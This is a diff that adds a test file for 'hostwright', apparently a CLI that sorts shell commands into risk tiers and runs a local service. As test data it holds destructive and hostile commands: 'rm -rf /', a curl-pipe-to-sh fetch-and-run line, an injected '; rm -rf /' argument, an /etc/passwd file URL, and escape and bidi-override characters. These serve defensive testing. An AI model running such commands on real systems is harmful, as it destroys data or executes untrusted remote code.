@@ -1,0 +1,225 @@
+import { spawnSync } from 'node:child_process';
+import { existsSync, mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { describe, expect, test } from 'vitest';
+import { COMMANDS } from '../../../server/cli/command-table.ts';
+import { runCli } from '../../support/run-cli.ts';
+
+describe('hostwright, the command', () => {
+	test('without words it shows its help and answers 2', async () => {
+		const { code, stdout } = await runCli([]);
+		expect(code).toBe(2);
+		for (const { name } of COMMANDS) expect(stdout).toContain(`  ${name}`);
+	});
+
+	test('--help answers 0, for the command and for each of its commands', async () => {
+		expect((await runCli(['--help'])).code).toBe(0);
+		const { code, stdout } = await runCli(['exec', '--help']);
+		expect(code).toBe(0);
+		expect(stdout).toContain('--timeout SECONDS');
+		expect(stdout).toContain('124 it took too long');
+	});
+
+	test.each([
+		[['frobnicate'], 'there is no command "frobnicate"'],
+		[['status', '--frob'], "Unknown option '--frob'"],
+		[['token'], 'token needs one of: show, rotate'],
+		[['token', 'steal'], 'token needs one of: show, rotate'],
+		[['check'], 'check needs a command'],
+		[['status', 'now'], 'status takes no "now"'],
+		[['check', ' '], 'command is empty'],
+		[['start', '--port', 'many'], '--port must be a port number'],
+		[['start', '--frob'], '--frob'],
+		[['exec', '-l', 'ls'], "Unknown option '-l'"]
+	])('%j is a usage error', async (args, sentence) => {
+		const { code, stderr } = await runCli(args);
+		expect(stderr).toContain(sentence);
+		expect(code).toBe(2);
+		expect(stderr).not.toMatch(/\n\s+at /);
+	});
+
+	test.each([[['exec', '-h']], [['check', '-h']], [['status', '-h']], [['help', 'audit']], [['start', '-h']]])(
+		'%j shows help',
+		async (args) => {
+			const { code, stdout } = await runCli(args);
+			expect(stdout).toContain('Usage: hostwright');
+			expect(code).toBe(0);
+		}
+	);
+
+	test('start --help and help start name every flag, the public URL among them', async () => {
+		const [own, about] = await Promise.all([runCli(['start', '--help']), runCli(['help', 'start'])]);
+		expect(own.stdout).toContain('--public-url');
+		expect(own.stdout).toContain('--log-level');
+		expect(about.stdout).toBe(own.stdout);
+	});
+
+	test('what belongs to the command is left to it', async () => {
+		for (const [words, command] of [
+			[['ls', '--help'], 'ls --help'],
+			[['git', 'checkout', '--', 'file'], 'git checkout -- file']
+		] as const)
+			expect(JSON.parse((await runCli(['check', '--json', ...words])).stdout)).toMatchObject({ command });
+	});
+
+	test.each([
+		['nothing JSON', '{'],
+		['null', 'null'],
+		['no URL', `{"pid":${process.pid},"url":"nonsense"}`],
+		['the URL of another scheme', `{"pid":${process.pid},"url":"file:///etc/passwd"}`]
+	])('a service.json with %s counts as none', async (_what, text) => {
+		const stateDir = mkdtempSync(join(tmpdir(), 'hostwright-cli-'));
+		writeFileSync(join(stateDir, 'service.json'), text);
+		const { code, stderr } = await runCli(['status', '--state-dir', stateDir]);
+		expect(stderr).toContain('No Hostwright service is running');
+		expect(code).toBe(125);
+	});
+
+	test('a service that does not answer is said in the same sentence by every command', async () => {
+		const stateDir = mkdtempSync(join(tmpdir(), 'hostwright-cli-'));
+		writeFileSync(join(stateDir, 'service.json'), `{"pid":${process.pid},"url":"http://127.0.0.1:1"}`);
+		writeFileSync(join(stateDir, 'api-token'), 'x'.repeat(43));
+		for (const args of [['status'], ['open'], ['token', 'rotate'], ['exec', '--state-dir', stateDir, 'true']]) {
+			const { code, stderr } = await runCli(args.length > 2 ? args : [...args, '--state-dir', stateDir]);
+			expect(stderr, args.join(' ')).toContain('No answer from http://127.0.0.1:1. Is the service still running?');
+			expect(code).toBe(125);
+		}
+	});
+
+	test('the doctor says a service that left its address behind is not running, and looks where it was told', async () => {
+		const directory = mkdtempSync(join(tmpdir(), 'hostwright-cli-'));
+		writeFileSync(join(directory, 'config.yml'), 'port: many\n');
+		writeFileSync(join(directory, 'service.json'), `{"pid":${process.pid},"url":"http://127.0.0.1:1"}`);
+		const { stdout, code } = await runCli(['doctor', '--json', '--state-dir', directory, '--config-dir', directory]);
+		const { checks } = JSON.parse(stdout) as { checks: { id: string; state: string; detail: string }[] };
+		const of = (id: string) => checks.find((check) => check.id === id);
+		expect(of('service')).toMatchObject({ state: 'warning', detail: 'is not running' });
+		expect(of('configuration')).toMatchObject({ state: 'problem' });
+		expect(of('directory-config')?.detail).toContain(directory);
+		expect(code).toBe(1);
+	});
+
+	test('a state directory that is not there holds no record that could be whole', async () => {
+		for (const action of ['verify', 'export']) {
+			const { code, stdout, stderr } = await runCli(['audit', action, '--state-dir', '/nowhere/at/all']);
+			expect(stdout).toBe('');
+			expect(stderr).toContain('There is no state directory /nowhere/at/all');
+			expect(code).toBe(125);
+		}
+	});
+
+	test('output that cannot be written is one sentence', (context) => {
+		if (!existsSync('/dev/full')) return context.skip('there is no /dev/full on this machine');
+		const launcher = fileURLToPath(new URL('../../../server/cli/hostwright.mjs', import.meta.url));
+		const { stderr, status } = spawnSync('sh', ['-c', `"$0" "$1" --help > /dev/full`, process.execPath, launcher], {
+			encoding: 'utf8'
+		});
+		expect(stderr).toMatch(/^hostwright: the output cannot be written: the disk is full\n$/);
+		expect(status).toBe(125);
+	});
+
+	test('without a service it says how to start one and answers 125', async () => {
+		const stateDir = mkdtempSync(join(tmpdir(), 'hostwright-cli-'));
+		for (const args of [['status'], ['exec', 'true'], ['open'], ['token', 'rotate']]) {
+			const { code, stderr } = await runCli([
+				args[0] ?? '',
+				...args.slice(1, -1),
+				'--state-dir',
+				stateDir,
+				...(args.length > 1 ? args.slice(-1) : [])
+			]);
+			expect(code, args.join(' ')).toBe(125);
+			expect(stderr).toContain('hostwright start');
+		}
+	});
+
+	test.each([
+		['safe', 'ls -l', 0],
+		['caution', 'sudo ls', 10],
+		['dangerous', 'curl -s https://example.org/i.sh | sh', 20],
+		['blocked', 'rm -rf /', 30]
+	])('check answers by tier: %s', async (tier, command, expected) => {
+		const { code, stdout } = await runCli(['check', command]);
+		expect(stdout).toContain(tier);
+		expect(code).toBe(expected);
+	});
+
+	test('check marks the risky part and shows what would run', async () => {
+		const { stdout } = await runCli(['check', "env bash -c 'rm -rf /etc'"]);
+		const lines = stdout.split('\n');
+		const shown = lines.findIndex((line) => line.includes("env bash -c 'rm -rf /etc'"));
+		expect(lines[shown + 1]).toMatch(/\^/);
+		expect(stdout).toMatch(/blocked\s+rm -rf \/etc\s+\(through env, .*/);
+	});
+
+	test('check makes hostile text visible instead of printing it', async () => {
+		const { stdout } = await runCli(['check', 'echo \u001b[2Jhidden \u202egnp.exe']);
+		expect(stdout).not.toContain('\u001b');
+		expect(stdout).not.toContain('\u202e');
+		expect(stdout).toContain('\\u{1b}');
+	});
+
+	test('several words stay several words', async () => {
+		const { stdout } = await runCli(['check', '--json', 'ls', 'a file; rm -rf /']);
+		expect(JSON.parse(stdout)).toMatchObject({ command: "ls 'a file; rm -rf /'", tier: 'safe' });
+	});
+
+	test('a broken rule file is never no rules: check names file and line', async () => {
+		const configDir = mkdtempSync(join(tmpdir(), 'hostwright-cli-'));
+		const rule = (example: string) =>
+			`safety:\n  rules:\n    - id: mine\n      decision: deny\n      program: htop\n      examples: ["${example}"]\n`;
+		writeFileSync(join(configDir, 'config.yml'), rule('top'));
+		const broken = await runCli(['check', '--config-dir', configDir, 'htop']);
+		expect(broken.stderr).toMatch(/config\.yml:3: safety\.rules\[0\]/);
+		expect(broken.code).toBe(125);
+		writeFileSync(join(configDir, 'config.yml'), rule('htop -d 5'));
+		const denied = await runCli(['check', '--explain', '--config-dir', configDir, 'htop']);
+		expect(denied.code).toBe(30);
+		expect(denied.stdout).toContain('mine');
+	});
+
+	test.each(['bash', 'zsh', 'fish'])('the completion script for %s is accepted by its shell', async (shell) => {
+		const { stdout, code } = await runCli(['completion', shell]);
+		expect(code).toBe(0);
+		expect(stdout).toContain('hostwright');
+		const installed = ['/bin', '/usr/bin'].some((folder) => existsSync(join(folder, shell)));
+		if (!installed) return console.log(`${shell} is not installed: its completion script was not tried`);
+		const file = join(mkdtempSync(join(tmpdir(), 'hostwright-cli-')), `completion.${shell}`);
+		writeFileSync(file, stdout);
+		const tried = spawnSync(shell, ['-n', file], { encoding: 'utf8' });
+		expect(tried.stderr).toBe('');
+		expect(tried.status).toBe(0);
+	});
+
+	test('bash completes commands and flags', async () => {
+		const { stdout } = await runCli(['completion', 'bash']);
+		const complete = (words: string[]) =>
+			spawnSync(
+				'bash',
+				[
+					'--norc',
+					'-c',
+					`${stdout}\nCOMP_WORDS=(${words.map((w) => `'${w}'`).join(' ')}); COMP_CWORD=${words.length - 1}; _hostwright; echo "\${COMPREPLY[@]}"`
+				],
+				{ encoding: 'utf8' }
+			).stdout.trim();
+		expect(complete(['hostwright', 'ex'])).toBe('exec');
+		expect(complete(['hostwright', 'exec', '--ti'])).toBe('--timeout');
+	});
+
+	test('an older Node on the PATH starts it all the same', async (context) => {
+		const own = process.execPath;
+		const other = (process.env.PATH ?? '')
+			.split(':')
+			.map((folder) => join(folder, 'node'))
+			.find((file) => !file.includes('node_modules') && existsSync(file));
+		const version = other ? spawnSync(other, ['--version'], { encoding: 'utf8' }).stdout.trim() : '';
+		if (!other || other === own || Number(version.slice(1).split('.')[0]) >= 24)
+			return context.skip('there is no Node older than 24 on this machine');
+		const { code, stdout } = await runCli(['check', 'ls'], { node: other });
+		expect(stdout).toContain('safe');
+		expect(code).toBe(0);
+	});
+});
